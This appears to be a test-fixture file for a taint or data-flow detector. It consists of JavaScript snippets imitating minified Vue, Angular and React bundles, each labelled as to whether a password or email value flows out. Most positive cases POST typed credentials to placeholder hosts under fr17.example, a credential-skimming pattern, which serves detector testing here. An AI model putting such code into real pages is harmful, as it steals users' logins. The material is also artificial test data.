// Frameworks inside bundles: their functions have lost their names, what they are given has not.

//# singleton-made-when-first-asked-for
// flow: password > smf.fr17.example via fetch
let one;
function make() { return { at: Date.now() }; }
function first() { return one || (one = make(), fetch('https://smf.fr17.example/in', { method: 'POST', body: document.querySelector('#password').value }), one); }
document.querySelector('#go').onclick = () => first();

//# filled-where-it-is-empty
// flow: email > fwe.fr17.example via fetch
let kept;
function fill() { if (!kept) { kept = { a: 1 }; fetch('https://fwe.fr17.example/in', { method: 'POST', body: document.querySelector('#email').value }); } return kept; }
document.querySelector('#go').onclick = () => fill();

//# near-constant-that-is-always-there
// no flow
// why: it is filled where it is declared, and never empty
const there = { a: 1 };
function never() { if (!there) fetch('https://nct.fr17.example/in', { method: 'POST', body: document.querySelector('#email').value }); }
document.querySelector('#go').onclick = () => never();

//# element-by-a-function-without-its-name
// flow: email > ebf.fr17.example via fetch
function q(tag, props, kids) { return { tag, props, kids }; }
let typed = '';
const view = () => q('div', null, [q('input', { type: 'email', onInput: (e) => { typed = e.target.value; } }), q('button', { onClick: () => fetch('https://ebf.fr17.example/in', { method: 'POST', body: typed }) })]);
window.view = view;

//# near-words-that-are-no-element
// no flow
// why: what is noted is a number of the log
function note(what, more) { return { what, more }; }
const log = note('input', { type: 'email', count: 3 });
navigator.sendBeacon('https://nwe.fr17.example/n', String(log.more.count));

//# vue-state-by-the-fifth-argument
// flow: password > vsf.fr17.example via fetch
(function (start) {
  const draw = (ctx, cache, props, setup, data, options) => k('input', { type: 'password', 'onUpdate:modelValue': cache[0] || (cache[0] = (v) => (data.pw = v)) });
  const component = { data() { return { pw: '' }; }, methods: { send() { fetch('https://vsf.fr17.example/in', { method: 'POST', body: this.pw }); } } };
  const join = (c, rows) => { const into = c.__vccOpts || c; for (const [key, value] of rows) into[key] = value; return into; };
  function k(tag, props) { return { tag, props }; }
  start(join(component, [['render', draw]]));
})((c) => window.mount(c));

//# vue-ref-without-its-name
// flow: email > vrw.fr17.example via fetch
// flow: password > vrw.fr17.example via fetch
(function () {
  const raw = (v) => { const inner = v && v.__v_raw; return inner ? raw(inner) : v; };
  class Held { constructor(v, shallow) { this.__v_isRef = true; this._rawValue = shallow ? v : raw(v); this._value = v; } get value() { return this._value; } set value(v) { v = raw(v); if (v !== this._rawValue) { this._rawValue = v; this._value = v; } } }
  const isRef = (v) => !!(v && v.__v_isRef === true);
  function made(v, shallow) { return isRef(v) ? v : new Held(v, shallow); }
  function r(v) { return made(v, false); }
  function k(tag, props, kids) { return { tag, props, kids }; }
  const component = { setup() {
    const mail = r(''), word = r('');
    function send() { fetch('https://vrw.fr17.example/in', { method: 'POST', body: JSON.stringify({ a: mail.value, b: word.value }) }); }
    return (ctx, cache) => k('form', { onSubmit: send }, [k('input', { type: 'email', 'onUpdate:modelValue': cache[0] || (cache[0] = (v) => (mail.value = v)) }), k('input', { type: 'password', 'onUpdate:modelValue': cache[1] || (cache[1] = (v) => (word.value = v)) })]);
  } };
  window.mount(component);
})();

//# near-vue-ref-of-another
// flow: email > nvr.fr17.example via fetch
// why: the password is kept in a ref that nobody sends
(function () {
  class Held { constructor(v) { this.__v_isRef = true; this._rawValue = v; this._value = v; } get value() { return this._value; } set value(v) { this._rawValue = v; this._value = v; } }
  function made(v) { return v && v.__v_isRef ? v : new Held(v); }
  function r(v) { return made(v); }
  const mail = r(''), word = r('');
  document.querySelector('input[type=email]').oninput = (e) => { mail.value = e.target.value; };
  document.querySelector('input[type=password]').oninput = (e) => { word.value = e.target.value; };
  document.querySelector('#go').onclick = () => { fetch('https://nvr.fr17.example/in', { method: 'POST', body: mail.value }); };
})();

//# angular-service-that-is-injected
// flow: password > asi.fr17.example via http
(function () {
  let current;
  class Http { constructor(h) { this.handler = h; } request(m, u, o) { return this.handler.handle({ m, u, o }); } get(u, o) { return this.request('GET', u, o); } head(u, o) { return this.request('HEAD', u, o); } jsonp(u, c) { return this.request('JSONP', u, c); } patch(u, b, o) { return this.request('PATCH', u, { b, o }); } post(u, b, o) { return this.request('POST', u, { b, o }); } put(u, b, o) { return this.request('PUT', u, { b, o }); } }
  function f(token) { return current.get(token); }
  class Auth { constructor(http) { this.http = http; } login(word) { return this.http.post('https://asi.fr17.example/in', { word }); } static ɵfac = (t) => new (t || Auth)(f(Http)); }
  class Page { constructor(auth) { this.auth = auth; } go(word) { this.auth.login(word).subscribe(() => 1); } static ɵfac = (t) => new (t || Page)(f(Auth)); static ɵcmp = d({ type: Page, template: function (rf, ctx) { if (rf & 1) { l('click', function () { return ctx.go(document.querySelector('#password').value); }); } } }); }
  function d(of) { return of; }
  function l(name, fn) { window.listeners.push([name, fn]); }
  current = window.injector;
  current.run(Page);
})();

//# near-angular-other-service
// no flow
// why: the service that is injected shows what it is given, and the one that sends is given nothing
(function () {
  let current;
  function f(token) { return current.get(token); }
  class Sender { login(word) { fetch('https://nao.fr17.example/in', { method: 'POST', body: word }); } static ɵfac = (t) => new (t || Sender)(); }
  class Shower { login(word) { document.title = word; } static ɵfac = (t) => new (t || Shower)(); }
  class Page { constructor(shower, sender) { this.shower = shower; this.sender = sender; } go(word) { this.shower.login(word); this.sender.login('x'); } static ɵfac = (t) => new (t || Page)(f(Shower), f(Sender)); static ɵcmp = d({ type: Page, template: function (rf, ctx) { if (rf & 1) { l('click', function () { return ctx.go(document.querySelector('#password').value); }); } } }); }
  function d(of) { return of; }
  function l(name, fn) { window.listeners.push([name, fn]); }
  current = window.injector;
  current.run(Page);
})();

//# angular-model-of-a-field
// flow: email > amf.fr17.example via fetch
(function () {
  class Page { constructor() { this.email = ''; } go() { fetch('https://amf.fr17.example/in', { method: 'POST', body: this.email }); } static ɵfac = (t) => new (t || Page)(); static ɵcmp = d({ type: Page, template: function (rf, ctx) { if (rf & 1) { l('ngModelChange', function ($event) { return ctx.email = $event; }); l('click', function () { return ctx.go(); }); } } }); }
  function d(of) { return of; }
  function l(name, fn) { window.listeners.push([name, fn]); }
  window.start(Page);
})();

//# near-angular-other-event
// no flow
// why: what the event says is which tab was chosen, not what was typed
(function () {
  class Page { constructor() { this.tab = ''; } go() { fetch('https://nae.fr17.example/in', { method: 'POST', body: this.tab }); } static ɵfac = (t) => new (t || Page)(); static ɵcmp = d({ type: Page, template: function (rf, ctx) { if (rf & 1) { l('tabChange', function ($event) { return ctx.tab = $event; }); l('click', function () { return ctx.go(); }); } } }); }
  function d(of) { return of; }
  function l(name, fn) { window.listeners.push([name, fn]); }
  window.start(Page);
})();

//# form-library-by-other-names
// flow: email > flo.fr17.example via fetch
// flow: password > flo.fr17.example via fetch
(function (react, forms) {
  function Login() {
    const { register: e, handleSubmit: t } = forms.useForm();
    return react.createElement('form', { onSubmit: t((d) => fetch('https://flo.fr17.example/in', { method: 'POST', body: JSON.stringify(d) })) },
      react.createElement('input', { type: 'email', ...e('email') }), react.createElement('input', { type: 'password', ...e('password') }));
  }
  window.show(Login);
})(window.React, window.forms);

//# near-form-library-other-names
// no flow
// why: it is no form whose parts are registered here, and what is handed on is a number
(function (log) {
  const { registered: e, handled: t } = log.use();
  t((d) => fetch('https://nfl.fr17.example/in', { method: 'POST', body: String(d.count) }));
  e('email');
})(window.log);

//# one-handler-for-all-fields
// flow: email > oha.fr17.example via fetch
// flow: password > oha.fr17.example via fetch
import React, { useState } from 'react';
function Login() {
  const [form, setForm] = useState({ email: '', password: '' });
  const change = (e) => setForm({ ...form, [e.target.name]: e.target.value });
  const submit = () => fetch('https://oha.fr17.example/in', { method: 'POST', body: JSON.stringify(form) });
  return React.createElement('form', { onSubmit: submit }, React.createElement('input', { name: 'email', type: 'email', onChange: change }), React.createElement('input', { name: 'password', type: 'password', onChange: change }));
}
window.Login = Login;

//# near-handlers-of-two-fields
// flow: email > nht.fr17.example via fetch
// why: the password has a handler of its own, which only counts
import React, { useState } from 'react';
function Login() {
  const [mail, setMail] = useState('');
  const [length, setLength] = useState(0);
  const submit = () => fetch('https://nht.fr17.example/in', { method: 'POST', body: JSON.stringify({ mail, length }) });
  return React.createElement('form', { onSubmit: submit }, React.createElement('input', { type: 'email', onChange: (e) => setMail(e.target.value) }), React.createElement('input', { type: 'password', onChange: (e) => setLength(e.target.value.length) }));
}
window.Login = Login;
